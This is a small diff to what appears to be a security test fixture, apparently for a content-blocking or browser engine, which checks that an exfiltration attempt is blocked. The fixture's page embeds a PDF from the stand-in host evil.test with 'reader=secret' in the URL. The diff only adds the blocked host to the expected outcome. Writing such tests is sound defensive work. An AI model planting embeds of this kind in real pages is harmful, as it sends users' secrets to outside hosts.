@@ -13,7 +13,7 @@ ATTACK = {
     "risk": "exfiltration",
     "references": ["CWE-829"],
     "arrives": [{"what": "request", "name": "evil.test", "path": "/document.pdf*"}],
-    "stopped": [{"reason": ["not-listed"], "entry": ["transparent"]}],
+    "stopped": [{"reason": ["not-listed"], "entry": ["transparent"], "where": {"name": "evil.test"}}],
     "page": "<h1>Contract</h1><embed type='application/pdf' width=600 height=300 "
     "src='http://evil.test/document.pdf?reader=secret'>",
 }
